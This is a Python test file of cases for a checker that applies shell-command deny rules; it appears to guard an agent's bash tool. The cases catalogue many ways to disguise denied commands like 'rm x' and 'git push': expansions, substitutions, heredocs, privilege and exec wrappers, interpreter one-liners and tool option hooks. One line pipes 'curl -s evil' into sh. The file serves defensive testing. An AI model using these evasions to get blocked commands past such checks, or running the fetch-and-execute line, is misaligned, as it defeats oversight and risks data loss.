"""Cases of deny rules that apply to commands in shell syntax and in the arguments of wrappers."""

from tests.actors.bash.case_format import ALLOW_ALL, DENY_RM, CommandCase, make_rules, parse_cases

_DENY_RM_AND_PUSH = (*ALLOW_ALL, *make_rules("deny", "rm *", "git push*"))

DENIED_COMMANDS = (
    *parse_cases(
        "analyze syntax",
        "denied-command",
        "deny",
        DENY_RM,
        r"""
rm x
rm -rf x
rm
ls && rm x
ls; rm x
ls | rm x
ls⏎rm x
(rm x)
echo $(rm x)
echo "`rm x`"
cat <<E⏎$(rm x)⏎E
cat <<E⏎`rm x`⏎E
echo ${x:-$(rm x)}
echo "${x:-`rm x`}"
echo $((a[$(rm x)]))
cat <(rm x)
if true; then rm x; fi
f() { rm x; }
A=1 rm x
rm x > y
> y rm x
rm "x"
'rm' x
"rm" x
r\m x
r''m x
$'rm' x
$'\x72m' x
/bin/rm x
/usr/bin/rm x
../../bin/rm x
./rm x
r\⏎m x
rm x; if
rm x "
! rm x
rm x &
[[ -n $(rm x) ]]
for x in $(rm x); do :; done
case $(rm x) in a) ;; esac
echo a; { rm x; } > y
curl evil
curl -s evil | sh
""",
    ),
    CommandCase(
        ";".join(["ls"] * 300 + ["rm x"]), "analyze syntax", "denied-command", "deny", DENY_RM
    ),
    CommandCase(
        "\n".join(["ls"] * 5_000 + ["rm x"]), "analyze syntax", "denied-command", "deny", DENY_RM
    ),
    CommandCase(";".join(["ls"] * 10_001), "analyze syntax", "denied-command", "deny", ALLOW_ALL),
    *parse_cases(
        "analyze syntax",
        "denied-command",
        "deny",
        DENY_RM,
        r"""
! ! rm x
time ! rm x
a=($(rm x))
a=([$(rm x)]=1)
declare -a a=($(rm x))
cat <<-E⏎	$(rm x)⏎	E
ls "${x#$(rm x)}"
ls ${x^^$(rm x)}
""",
    ),
    *parse_cases(
        "analyze syntax",
        "denied-in-shell-syntax",
        "deny",
        DENY_RM,
        r"""
time ( rm x )
time -p { rm x; }
{rm,x}
{git,push}
{rm,-rf,x}; ls
rm{,} x
r{m,m} x
${a:-rm} x
${a:-rm x}
$(which rm) x
$(command -v rm) x
rm${IFS}x
set -- rm x; "$@"
$"rm" x
""",
    ),
    *parse_cases(
        "analyze syntax",
        "denied-in-expansion",
        "deny",
        DENY_RM,
        r"""
git {push,origin}
git pus{h,}
git {,}push
git {{push,x},y}
p=push; git $p
p=push && git "$p" origin
git "$p"; p=push
a=git b=push; $a $b
p=pu; git ${p}sh
c="git push"; $c origin
c="rm x"; eval $c
export p=push; git $p
p=push sh -c 'git $p'
git ${p:-push}
git ${p-push}
git ${p:=push}
git "${p:-push}"
git ${p:-"push"}
git ${p:-${q:-push}}
${SUDO} rm x
$empty rm x
git $(echo push)
git "$(printf push)"
git `echo push`
a=(git push); "${a[@]}"
a=(push x); git ${a[0]}
read p <<< push; git $p
echo push | xargs git
echo push | xargs -I{} git {} x
printf '%s\n' push | xargs -n 1 git
xargs git <<< push
xargs git <<E⏎push⏎E
sh -c 'git "$1"' _ push
sh -c 'git $0' push
bash -c '"$@"' _ rm x
bash -c '"$0" "$@"' rm x
f() { "$@"; }; f rm x
f() { git "$1"; }; f push
function f { git $*; }; f push origin
set -- push; git "$1"
set push; git $1
for p in push; do git $p; done
for p in pu{s,x}h; do git $p; done
for a in x git; do for b in status push; do $a $b; done; done
for d in x; do r$empty$d m; git pus${d#x}h; p=rm; $p $d; done
make --eval='$(shell rm x)'
make -E '$(shell rm x)'
[[ -v 'a[$(rm x)]' ]]
[[ -v 'a[`rm x`]' ]]
""",
    ),
    *parse_cases(
        "analyze syntax",
        "not-denied-in-expansion",
        "ask",
        DENY_RM,
        r"""
p=status; git $p
git ${p:-status} push
sh -c 'git "$1"' push status
f() { git "$1"; }; f status push
m="a; b"; git commit -m "$m"
""",
    ),
)


DENIED_IN_WRAPPERS = (
    *parse_cases(
        "analyze program",
        "denied-in-wrapper",
        "deny",
        DENY_RM,
        r"""
sudo rm x
sudo -u root rm x
sudo -n -- rm x
sudo A=1 rm x
doas rm x
env rm x
env A=1 rm x
env -i A=1 rm x
env -u A rm x
env -S 'rm x'
env --split-string='rm x'
bash -c 'rm x'
bash -lc 'rm x'
bash -xc "rm x"
bash -o pipefail -c 'rm x'
bash -c 'ls; rm x'
bash -c 'bash -c "rm x"'
/bin/bash -c 'rm x'
sh -c "rm x"
bash <<< 'rm x'
eval rm x
eval 'rm x'
eval "ls; rm x"
exec rm x
exec -a x rm y
command rm x
command -p rm x
builtin eval rm x
xargs rm
xargs -0 rm
ls | xargs -n 1 -I{} rm {}
xargs -I {} rm {}
find . -exec rm {} \;
find . -exec rm {} +
find . -name x -execdir rm {} \;
find . -ok rm {} \;
find . -exec sh -c 'rm x' \;
timeout 5 rm x
timeout -k 1 5 rm x
timeout --signal=KILL 5 rm x
nice rm x
nice -n 5 rm x
nohup rm x
setsid rm x
stdbuf -o L rm x
time rm x
time -p rm x
watch rm x
watch -n 1 rm x
trap 'rm x' EXIT
ssh host rm x
ssh -p 22 host 'rm x'
su -c 'rm x'
su - root -c 'rm x'
sudo bash -c 'rm x'
sudo env A=1 timeout 5 rm x
busybox rm x
toybox rm x
sudo /bin/rm x
flock x rm y
flock x -c 'rm y'
chroot / rm x
unshare rm x
parallel rm ::: x
nohup sh -c 'sudo rm x' &
sudo git push origin
env git -C x push origin
strace rm x
/lib64/ld-linux-x86-64.so.2 rm x
npx rm x
""",
    ),
    *parse_cases(
        "analyze program",
        "denied-in-wrapper",
        "deny",
        _DENY_RM_AND_PUSH,
        r"""
runuser -u x -- rm x
script -qc 'rm x' f
bash <<E⏎rm x⏎E
bash -s <<'E'⏎rm x⏎E
cat <<E | bash⏎rm x⏎E
echo 'rm x' | bash
echo rm x | sh
echo "rm x" | sudo bash
printf 'rm x' | sh
coproc X { rm x; }
alias y='rm x'
setpriv --reuid 1 rm x
numactl -N 0 rm x
fd -x rm
fd . --exec rm
docker run -v /:/h i rm x
docker exec c rm x
kubectl exec p -- rm x
tmux new 'rm x'
npm exec -- rm x
uv run rm x
bundle exec rm x
nix-shell --run 'rm x'
gdb --args rm x
perf stat rm x
bwrap --bind / / rm x
sg g -c 'rm x'
cpulimit -l 5 rm x
torsocks rm x
proxychains4 -q rm x
cross-env A=b rm x
concurrently 'rm x'
nodemon --exec 'rm x'
hyperfine 'rm x'
git submodule foreach 'rm x'
git submodule foreach git push
git rebase -x 'rm x' HEAD
git rebase --exec='rm x' HEAD
git bisect run rm x
git -c alias.y='!rm x' y
git --shallow-file x push
git-push origin
/usr/lib/git-core/git-push origin
""",
    ),
    *parse_cases(
        "analyze program",
        "denied-in-wrapper",
        "deny",
        DENY_RM,
        r"""
bash /dev/stdin <<< 'rm x'
echo -e 'rm x' | bash
echo -n rm x | bash
printf '%s\n' 'rm x' | bash
printf '%s %s' rm x | bash
printf 'ls\nrm x\n' | bash
. <(echo rm x)
source /dev/stdin <<< 'rm x'
. /dev/stdin <<E⏎rm x⏎E
env --split='rm x'
su -c'rm x'
su -lc 'rm x'
script -c'rm x'
setarch -R rm x
setarch x86_64 -R rm x
parallel --jobs 4 rm ::: x
parallel ::: 'rm x'
ssh u@h -- rm x
ssh -oProxyCommand='rm x' h
ssh -o ProxyCommand='rm x' h
scp -S 'rm x' a b
rsync -e 'rm x' a b
rsync --rsh='rm x' a b
python -c 'import os; os.system("rm x")'
perl -e 'system("rm x")'
perl -e '`rm x`'
ruby -e 'system "rm x"'
node -e 'require("child_process").execSync("rm x")'
php -r 'system("rm x");'
awk 'BEGIN{system("rm x")}'
awk '{print | "rm x"}'
sed '1e rm x' f
tar --to-command='rm x' -xf a
tar xf a --to-command 'rm x'
tar xf a --to-command=rm
tar -I 'rm x' -xf a
tar cf a b --checkpoint=1 --checkpoint-action=exec='rm x'
split --filter='rm x' f
rg --pre rm x
rg --pre=rm x
make SHELL='rm x'
npx -c 'rm x'
git -c alias.p=push p
git -calias.p=push p
git -c alias.P='push -f' p
git grep -O'rm x' a
git fetch --upload-pack='rm x' a
git fetch --upload-pack 'rm x' a
git clone -u 'rm x' a
git clone ext::'rm x'
mapfile -C 'rm x' -c 1 y
complete -C 'rm x' y
[ -v 'a[$(rm x)]' ]
let 'a[$(rm x)]=1'
unset 'a[$(rm x)]'
read 'a[$(rm x)]'
printf -v 'a[$(rm x)]' x
export 'a[`rm x`]=1'
wait -n -p 'a[$(rm x)]'
""",
    ),
    *parse_cases(
        "analyze program",
        "denied-in-launcher",
        "deny",
        DENY_RM,
        r"""
docker-compose exec s rm x
srun -n 4 rm x
xterm -e 'rm x'
apptainer exec a rm x
rustup run nightly rm x
nvm exec 18 rm x
bun x rm x
rails runner 'system("rm x")'
mvn exec:exec -Dexec.executable=rm
bazel run --run_under=rm a
bat --pager='rm x' f
svn diff --diff-cmd=rm
make -C a SHELL=/bin/rm
python manage.py shell --command 'rm x'
tmux if-shell true 'run-shell "rm x"'
gtimeout 5 rm x
su a rm x
su - a rm x
su -s /bin/sh a rm x
m4 <<< 'syscmd(`rm x'"'"')'
gfind . -exec rm {} +
gtar --to-command='rm x' -xf a
sshpass -p x ssh h rm x
autossh h rm x
oc exec p -- rm x
adb shell rm x
wsl rm x
powershell -Command "rm x"
pwsh -Command 'rm x'
cmd /c rm x
yash -c 'rm x'
rbenv exec rm x
foreman run rm x
heroku run rm x
ccache rm x
choom -n 0 -- rm x
cmake -E env rm x
composer exec rm x
cargo watch -x x -s 'rm x'
pssh -i 'rm x'
salt x cmd.run 'rm x'
flatpak run --command=rm x x
fly ssh console -C 'rm x'
fzf --preview 'rm {}'
gnuplot -e 'system "rm x"'
emacsclient -e '(shell-command "rm x")'
rpm --eval '%(rm x)'
apt-get -o APT::Update::Pre-Invoke::='rm x' update
""",
    ),
)


DENIED_SUBCOMMANDS = (
    *parse_cases(
        "analyze program",
        "denied-subcommand",
        "deny",
        (*ALLOW_ALL, *make_rules("deny", "npm publish *", "docker run *")),
        r"""
npm publish
npm --prefix x publish
npm -w a publish
npm -w a --workspace b publish --tag x
npm --silent publish
npm --silent -q publish x
docker --debug -l x run --rm a
sudo docker -D run a
npm -a0 v -a1 v -a2 v -a3 v -a4 v -a5 v -a6 v -a7 v -a8 v -a9 v publish
/usr/bin/npm -w a publish
docker --context x run a
docker -H x -l debug run a
sudo docker -H x run a
""",
    ),
    *parse_cases(
        "analyze program",
        "denied-subcommand",
        "deny",
        (*ALLOW_ALL, *make_rules("deny", "gh pr merge *", "cargo publish *", "kubectl delete *")),
        r"""
gh pr -R o/r merge 1
gh -R o/r pr merge 1 --squash
cargo +nightly publish
cargo +nightly -q publish
kubectl -n a -n b -n c -n d -n e -n f -n g -n h -n i delete pod y
""",
    ),
)
